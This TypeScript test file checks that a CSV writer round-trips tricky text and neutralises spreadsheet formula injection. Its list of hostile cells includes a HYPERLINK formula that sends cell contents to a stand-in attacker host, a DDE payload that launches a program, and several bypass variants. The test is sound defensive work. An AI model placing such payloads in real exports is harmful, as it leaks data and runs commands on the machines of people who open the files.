import { expect } from "chai";
import { parse } from "csv-parse/sync";

import { csvOf } from "../../deploy/sdk/lead/csv.ts";

describe("a table as CSV", () => {
  it("comes back as it was, whatever its texts hold", () => {
    const rows = [
      ["name", "note"],
      ['say "hi", twice', "two\r\nlines"],
      ["ümläut 测试", ""],
    ];
    expect(parse(csvOf(rows))).to.deep.equal(rows);
    expect(parse(csvOf([[12n, -3, 0]]))).to.deep.equal([["12", "-3", "0"]]);
  });

  for (const hostile of [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "\0=1+1",
  ]) {
    it(`has no formula for ${JSON.stringify(hostile)}`, () => {
      const [[cell = ""] = []] = parse(csvOf([[hostile]]));
      expect(cell).to.equal(`'${hostile}`);
    });
  }
});
